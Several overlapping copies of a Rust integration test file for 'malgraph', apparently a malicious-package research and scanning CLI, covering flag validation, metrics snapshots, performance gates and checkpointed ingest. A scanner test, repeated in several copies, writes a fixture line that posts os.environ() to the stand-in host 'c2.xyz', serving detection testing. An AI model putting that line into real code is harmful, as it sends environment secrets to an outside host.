    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_usage_exits_with_error() {
    let out = bin().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin().args(["analyze"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn invalid_scale_values_are_rejected() {
    for scale in ["0", "-0.5", "1.5", "nan", "inf"] {
        let out = bin()
            .args(["world", "--scale", scale])
            .output()
            .expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "--scale {scale} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--scale"), "{err}");
    }
}

#[test]
fn unknown_flags_are_rejected() {
    let out = bin()
        .args(["world", "--sedd", "5"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown flag --sedd"), "{err}");
}

#[test]
fn threads_zero_is_rejected_with_usage_error() {
    let out = bin()
        .args(["collect", "--threads", "0", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--threads must be at least 1"), "{err}");
}

#[test]
fn flags_are_validated_per_subcommand() {
    for (args, flag) in [
        (vec!["analyze", "--fault-rate", "0.5", "--corpus", "x.json"], "--fault-rate"),
        (vec!["analyze", "--threads", "2", "--corpus", "x.json"], "--threads"),
        (vec!["scan", "--out", "x.json", "file.pyl"], "--out"),
        (vec!["world", "--metrics-out", "m.json"], "--metrics-out"),
        (vec!["world", "--profile-out", "p.folded"], "--profile-out"),
        (vec!["stats", "--seed", "5"], "--seed"),
        (vec!["collect", "--threshold", "0.1", "--out", "x.json"], "--threshold"),
        (vec!["perf", "--metrics-out", "m.json", "diff", "a", "b"], "--metrics-out"),
    ] {
        let out = bin().args(&args).output().expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "{args:?} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("{flag} is not supported by `{}`", args[0])),
            "{args:?}: {err}"
        );
    }
    // Stray positionals on positional-free subcommands are errors too.
    let out = bin()
        .args(["analyze", "--corpus", "x.json", "oops"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unexpected argument"));
}

#[test]
fn collect_writes_metrics_and_trace_files_and_stats_reads_them_back() {
    let dir = std::env::temp_dir().join(format!("malgraph-obs-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let metrics = dir.join("metrics.json");
    let trace = dir.join("trace.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--metrics-out",
            metrics.to_str().unwrap(),
            "--trace-out",
            trace.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let metrics_json = std::fs::read_to_string(&metrics).expect("metrics file written");
    assert!(metrics_json.contains("\"schema\": \"malgraph-obs/2\""), "{metrics_json}");
    assert!(metrics_json.contains("crawler.attempts"), "{metrics_json}");
    assert!(metrics_json.contains("collect/feeds"), "{metrics_json}");
    let trace_json = std::fs::read_to_string(&trace).expect("trace file written");
    assert!(trace_json.starts_with("{\"displayTimeUnit\":\"ms\",\"traceEvents\":["));
    assert!(trace_json.contains("\"ph\":\"X\""), "{trace_json}");

    let out = bin()
        .args(["stats", metrics.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("stages (span rollups)"), "{text}");
    assert!(text.contains("collect/feeds"), "{text}");
    assert!(text.contains("counters"), "{text}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn stats_rejects_missing_and_foreign_files() {
    let out = bin()
        .args(["stats", "/nonexistent/metrics.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    let dir = std::env::temp_dir().join(format!("malgraph-stats-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let foreign = dir.join("foreign.json");
    std::fs::write(&foreign, "{\"schema\": \"something-else/9\"}").unwrap();
    let out = bin()
        .args(["stats", foreign.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unsupported snapshot schema"));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn stats_sorts_rows_by_name_even_for_unsorted_input() {
    let dir = std::env::temp_dir().join(format!("malgraph-sort-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    // A legacy (schema /1), deliberately unsorted snapshot: the table
    // must come out name-sorted regardless of file order.
    let snapshot = dir.join("unsorted.json");
    std::fs::write(
        &snapshot,
        r#"{
  "schema": "malgraph-obs/1",
  "counters": {"zz.last": 1, "aa.first": 2, "mm.middle": 3},
  "gauges": {},
  "histograms": {},
  "spans": {"zeta/stage": {"count": 1, "total_us": 5}, "alpha/stage": {"count": 1, "total_us": 9}},
  "events_dropped": 0
}"#,
    )
    .unwrap();
    let out = bin()
        .args(["stats", snapshot.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    let pos = |needle: &str| text.find(needle).unwrap_or_else(|| panic!("{needle} missing: {text}"));
    assert!(pos("alpha/stage") < pos("zeta/stage"), "spans must be name-sorted: {text}");
    assert!(
        pos("aa.first") < pos("mm.middle") && pos("mm.middle") < pos("zz.last"),
        "counters must be name-sorted: {text}"
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn perf_diff_passes_identical_and_catches_injected_regression() {
    let dir = std::env::temp_dir().join(format!("malgraph-perf-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let base = dir.join("base.json");
    let slow = dir.join("slow.json");
    // A quick-bench-shaped report; `slow` injects a 10.1% regression
    // into one stage time.
    std::fs::write(
        &base,
        r#"{"bench": "demo", "full_build_ms": 1000, "delta_ingest_ms": 130, "speedup": 7.7}"#,
    )
    .unwrap();
    std::fs::write(
        &slow,
        r#"{"bench": "demo", "full_build_ms": 1101, "delta_ingest_ms": 130, "speedup": 7.0}"#,
    )
    .unwrap();

    // Identical snapshots diff clean and exit 0.
    let out = bin()
        .args(["perf", "diff", base.to_str().unwrap(), base.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 regressed"), "{text}");

    // The injected regression fails the gate with exit 1 and names the
    // offending metric. The speedup drop is informational, not a failure.
    let out = bin()
        .args(["perf", "diff", base.to_str().unwrap(), slow.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "a 10.1% regression must fail the gate");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("full_build_ms"), "{text}");
    assert!(text.contains("REGRESSED"), "{text}");
    assert!(text.contains("1 regressed"), "{text}");

    // A looser threshold waves the same delta through.
    let out = bin()
        .args([
            "perf",
            "diff",
            base.to_str().unwrap(),
            slow.to_str().unwrap(),
            "--threshold",
            "0.25",
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));

    // Usage errors: missing paths, unknown action, unreadable file.
    let out = bin().args(["perf", "diff"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin()
        .args(["perf", "compare", base.to_str().unwrap(), slow.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown perf action"));
    let out = bin()
        .args(["perf", "diff", "/nonexistent/base.json", slow.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn perf_diff_reads_real_metrics_snapshots() {
    let dir = std::env::temp_dir().join(format!("malgraph-perfsnap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let metrics = dir.join("metrics.json");
    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--metrics-out",
            metrics.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // A real malgraph-obs/2 snapshot diffed against itself: clean pass.
    let out = bin()
        .args(["perf", "diff", metrics.to_str().unwrap(), metrics.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 regressed"), "{text}");
    assert!(!text.contains("0 compared"), "snapshot entries must load: {text}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn profile_out_writes_folded_stacks_with_alloc_weights() {
    let dir = std::env::temp_dir().join(format!("malgraph-folded-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let profile = dir.join("profile.folded");
    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--profile-out",
            profile.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Folded self-time profile: `parent;child value` lines, nested
    // collect stages under the collect root.
    let folded = std::fs::read_to_string(&profile).expect("profile written");
    assert!(folded.lines().any(|l| l.starts_with("collect ")), "{folded}");
    assert!(folded.lines().any(|l| l.starts_with("collect;collect/feeds ")), "{folded}");
    assert!(
        folded
            .lines()
            .any(|l| l.starts_with("collect;collect/feeds;collect/feeds/source=")),
        "per-source spans must nest under the feeds stage: {folded}"
    );
    for line in folded.lines() {
        let (stack, value) = line.rsplit_once(' ').expect("stack <value> shape");
        assert!(!stack.is_empty());
        value.parse::<u64>().expect("integer weight");
    }

    // The sibling .alloc profile carries self-allocated bytes and the
    // counting allocator was live: at least one frame is non-zero.
    let alloc = std::fs::read_to_string(format!("{}.alloc", profile.to_str().unwrap()))
        .expect("alloc profile written");
    let weights: Vec<u64> = alloc
        .lines()
        .map(|l| l.rsplit_once(' ').unwrap().1.parse().unwrap())
        .collect();
    assert!(weights.iter().any(|&w| w > 0), "alloc accounting recorded nothing: {alloc}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn faulty_collect_prints_the_health_table_and_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-fault-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--fault-rate",
            "0.3",
            "--retries",
            "3",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("collection health"), "{text}");
    assert!(text.contains("report-corpus"), "{text}");
    assert!(text.contains("total"), "{text}");

    // The resilient manifest is still a valid analyze input.
    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Out-of-range fault rates die with usage errors.
    let out = bin()
        .args(["collect", "--fault-rate", "1.5", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--fault-rate"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn checkpointed_ingest_crashes_then_resumes_byte_identically() {
    let dir = std::env::temp_dir().join(format!("malgraph-ckpt-cli-{}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    let ckpt = dir.join("ckpt");
    let run = |crash: Option<&str>, verify: bool| {
        let mut cmd = bin();
        cmd.args([
            "ingest",
            "--seed",
            "7",
            "--scale",
            "0.02",
            "--windows",
            "3",
            "--checkpoint-dir",
            ckpt.to_str().unwrap(),
        ]);
        if let Some(spec) = crash {
            cmd.args(["--crash-at", spec]);
        }
        if verify {
            cmd.arg("--verify");
        }
        cmd.output().expect("binary runs")
    };

    // Crash at the second delta apply: exit 3, durable state behind.
    let out = run(Some("ingest/apply:2"), false);
    assert_eq!(out.status.code(), Some(3), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("simulated crash"));
    assert!(ckpt.join("RUN.json").exists());
    assert!(ckpt.join("gen-000001.json").exists(), "first window checkpointed");
    assert!(ckpt.join("journal").join("window-000001.json").exists(), "second window journaled");

    // Resume: finishes the plan and verifies against the one-shot oracle.
    let out = run(None, true);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("resuming from checkpoint generation"), "{text}");
    assert!(text.contains("ingested 3 windows"), "{text}");
    assert!(
        text.contains("verify: incremental graph is identical"),
        "resume must be byte-identical: {text}"
    );

    // A different seed against the same directory is refused up front.
    let out = bin()
        .args([
            "ingest",
            "--seed",
            "8",
            "--scale",
            "0.02",
            "--windows",
            "3",
            "--checkpoint-dir",
            ckpt.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("belongs to a different run"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn crash_at_flag_is_validated() {
    // Without durability a crash only loses work; refuse it.
    let out = bin()
        .args(["ingest", "--scale", "0.02", "--crash-at", "ingest/apply"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--crash-at requires --checkpoint-dir"));

    // Malformed specs die before any work happens.
    for spec in ["ingest/apply:0", "ingest/apply:x", ":3"] {
        let out = bin()
            .args([
                "ingest",
                "--scale",
                "0.02",
                "--checkpoint-dir",
                "/nonexistent-ckpt-dir-validation",
                "--crash-at",
                spec,
            ])
            .output()
            .expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "--crash-at {spec} must be rejected");
    }
}

#[test]
fn stats_and_perf_diff_reject_empty_and_entryless_snapshots() {
    let dir = std::env::temp_dir().join(format!("malgraph-empty-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    // A zero-byte snapshot: both readers die with a parse error, not a
    // panic or an empty table.
    let empty = dir.join("empty.json");
    std::fs::write(&empty, "").unwrap();
    let out = bin().args(["stats", empty.to_str().unwrap()]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stdout));
    let out = bin()
        .args(["perf", "diff", empty.to_str().unwrap(), empty.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    // A valid-schema snapshot with no metric entries would diff as "no
    // regressions" — the silent zero the gate must refuse.
    let hollow = dir.join("hollow.json");
    std::fs::write(&hollow, r#"{"schema": "malgraph-obs/2"}"#).unwrap();
    let out = bin()
        .args(["perf", "diff", hollow.to_str().unwrap(), hollow.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2), "entry-less snapshots must not pass the gate");
    assert!(String::from_utf8_lossy(&out.stderr).contains("no metrics to compare"));

    std::fs::remove_dir_all(&dir).ok();
}
