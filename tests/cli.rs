//! Integration tests for the `malgraph` CLI binary: the downstream-user
//! flow (world → collect → analyze → scan) through a real process.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malgraph"))
}

#[test]
fn world_prints_statistics() {
    let out = bin()
        .args(["world", "--seed", "5", "--scale", "0.02"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("packages"));
    assert!(text.contains("campaigns"));
    assert!(text.contains("mirrors"));
}

#[test]
fn collect_then_analyze_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(corpus.exists());

    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("relation graphs"));
    assert!(text.contains("missing rate"));
    assert!(text.contains("ops over"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn scan_flags_malicious_code_with_nonzero_exit() {
    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evil = dir.join("evil.pyl");
    std::fs::write(
        &evil,
        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
    )
    .unwrap();
    let out = bin()
        .args(["scan", evil.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malicious=true"));
    assert!(text.contains("exfiltration"));

    let clean = dir.join("clean.pyl");
    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
    let out = bin()
        .args(["scan", clean.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_usage_exits_with_error() {
    let out = bin().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin().args(["analyze"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn invalid_scale_values_are_rejected() {
    for scale in ["0", "-0.5", "1.5", "nan", "inf"] {
        let out = bin()
            .args(["world", "--scale", scale])
            .output()
            .expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "--scale {scale} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--scale"), "{err}");
    }
}

#[test]
fn unknown_flags_are_rejected() {
    let out = bin()
        .args(["world", "--sedd", "5"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown flag --sedd"), "{err}");
}

#[test]
fn threads_zero_is_rejected_with_usage_error() {
    let out = bin()
        .args(["collect", "--threads", "0", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--threads must be at least 1"), "{err}");
}

#[test]
fn flags_are_validated_per_subcommand() {
    for (args, flag) in [
        (vec!["analyze", "--fault-rate", "0.5", "--corpus", "x.json"], "--fault-rate"),
        (vec!["analyze", "--threads", "2", "--corpus", "x.json"], "--threads"),
        (vec!["scan", "--out", "x.json", "file.pyl"], "--out"),
        (vec!["world", "--metrics-out", "m.json"], "--metrics-out"),
        (vec!["stats", "--seed", "5"], "--seed"),
    ] {
        let out = bin().args(&args).output().expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "{args:?} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("{flag} is not supported by `{}`", args[0])),
            "{args:?}: {err}"
        );
    }
    // Stray positionals on positional-free subcommands are errors too.
    let out = bin()
        .args(["analyze", "--corpus", "x.json", "oops"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unexpected argument"));
}

#[test]
fn collect_writes_metrics_and_trace_files_and_stats_reads_them_back() {
    let dir = std::env::temp_dir().join(format!("malgraph-obs-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");
    let metrics = dir.join("metrics.json");
    let trace = dir.join("trace.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
            "--metrics-out",
            metrics.to_str().unwrap(),
            "--trace-out",
            trace.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let metrics_json = std::fs::read_to_string(&metrics).expect("metrics file written");
    assert!(metrics_json.contains("\"schema\": \"malgraph-obs/1\""), "{metrics_json}");
    assert!(metrics_json.contains("crawler.attempts"), "{metrics_json}");
    assert!(metrics_json.contains("collect/feeds"), "{metrics_json}");
    let trace_json = std::fs::read_to_string(&trace).expect("trace file written");
    assert!(trace_json.starts_with("{\"displayTimeUnit\":\"ms\",\"traceEvents\":["));
    assert!(trace_json.contains("\"ph\":\"X\""), "{trace_json}");

    let out = bin()
        .args(["stats", metrics.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("stages (span rollups)"), "{text}");
    assert!(text.contains("collect/feeds"), "{text}");
    assert!(text.contains("counters"), "{text}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn stats_rejects_missing_and_foreign_files() {
    let out = bin()
        .args(["stats", "/nonexistent/metrics.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));

    let dir = std::env::temp_dir().join(format!("malgraph-stats-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let foreign = dir.join("foreign.json");
    std::fs::write(&foreign, "{\"schema\": \"something-else/9\"}").unwrap();
    let out = bin()
        .args(["stats", foreign.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unsupported snapshot schema"));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn faulty_collect_prints_the_health_table_and_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-fault-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--fault-rate",
            "0.3",
            "--retries",
            "3",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("collection health"), "{text}");
    assert!(text.contains("report-corpus"), "{text}");
    assert!(text.contains("total"), "{text}");

    // The resilient manifest is still a valid analyze input.
    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Out-of-range fault rates die with usage errors.
    let out = bin()
        .args(["collect", "--fault-rate", "1.5", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--fault-rate"));

    std::fs::remove_dir_all(&dir).ok();
}
