//! Integration tests for the `malgraph` CLI binary: the downstream-user
//! flow (world → collect → analyze → scan) through a real process.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malgraph"))
}

#[test]
fn world_prints_statistics() {
    let out = bin()
        .args(["world", "--seed", "5", "--scale", "0.02"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("packages"));
    assert!(text.contains("campaigns"));
    assert!(text.contains("mirrors"));
}

#[test]
fn collect_then_analyze_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(corpus.exists());

    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("relation graphs"));
    assert!(text.contains("missing rate"));
    assert!(text.contains("ops over"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn scan_flags_malicious_code_with_nonzero_exit() {
    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evil = dir.join("evil.pyl");
    std::fs::write(
        &evil,
        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
    )
    .unwrap();
    let out = bin()
        .args(["scan", evil.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malicious=true"));
    assert!(text.contains("exfiltration"));

    let clean = dir.join("clean.pyl");
    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
    let out = bin()
        .args(["scan", clean.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_usage_exits_with_error() {
    let out = bin().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin().args(["analyze"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
}
