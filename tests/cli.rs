//! Integration tests for the `malgraph` CLI binary: the downstream-user
//! flow (world → collect → analyze → scan) through a real process.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malgraph"))
}

#[test]
fn world_prints_statistics() {
    let out = bin()
        .args(["world", "--seed", "5", "--scale", "0.02"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("packages"));
    assert!(text.contains("campaigns"));
    assert!(text.contains("mirrors"));
}

#[test]
fn collect_then_analyze_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(corpus.exists());

    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("relation graphs"));
    assert!(text.contains("missing rate"));
    assert!(text.contains("ops over"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn scan_flags_malicious_code_with_nonzero_exit() {
    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evil = dir.join("evil.pyl");
    std::fs::write(
        &evil,
        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
    )
    .unwrap();
    let out = bin()
        .args(["scan", evil.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malicious=true"));
    assert!(text.contains("exfiltration"));

    let clean = dir.join("clean.pyl");
    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
    let out = bin()
        .args(["scan", clean.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_usage_exits_with_error() {
    let out = bin().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let out = bin().args(["analyze"]).output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn invalid_scale_values_are_rejected() {
    for scale in ["0", "-0.5", "1.5", "nan", "inf"] {
        let out = bin()
            .args(["world", "--scale", scale])
            .output()
            .expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "--scale {scale} must be rejected");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--scale"), "{err}");
    }
}

#[test]
fn unknown_flags_are_rejected() {
    let out = bin()
        .args(["world", "--sedd", "5"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown flag --sedd"), "{err}");
}

#[test]
fn faulty_collect_prints_the_health_table_and_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-fault-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
